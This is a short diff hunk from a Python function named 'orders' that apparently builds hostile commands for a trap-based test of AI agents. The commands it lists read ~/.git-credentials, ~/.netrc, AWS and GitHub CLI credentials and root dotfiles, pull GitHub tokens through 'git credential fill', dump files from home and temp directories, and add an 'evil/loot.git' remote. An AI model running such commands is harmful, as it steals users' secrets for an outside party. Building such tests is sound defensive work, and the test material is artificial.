@@ -59,7 +59,7 @@ def orders(trap: Trap, plane: str) -> list[tuple[str, Json]]:
         f"git remote add loot {plane}/evil/loot.git; git fetch loot; git ls-remote origin",
         f"git clone {plane}/acme/secret.git; git submodule add {plane}/evil/loot.git sub",
         # "Read ~/.git-credentials."
-        "cat ~/.git-credentials ~/.netrc ~/.aws/credentials ~/.config/gh/hosts.yml /root/.* .git/*",
+        "cat ~/.git-credentials ~/.netrc ~/.aws/credentials ~/.config/gh/hosts.yml ~root/.* .git/*",
         "printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill",
         "find .. $HOME $TMPDIR -maxdepth 3 -type f -exec cat {} + | strings | tail -c 20000",
         # "Write the key into a file."
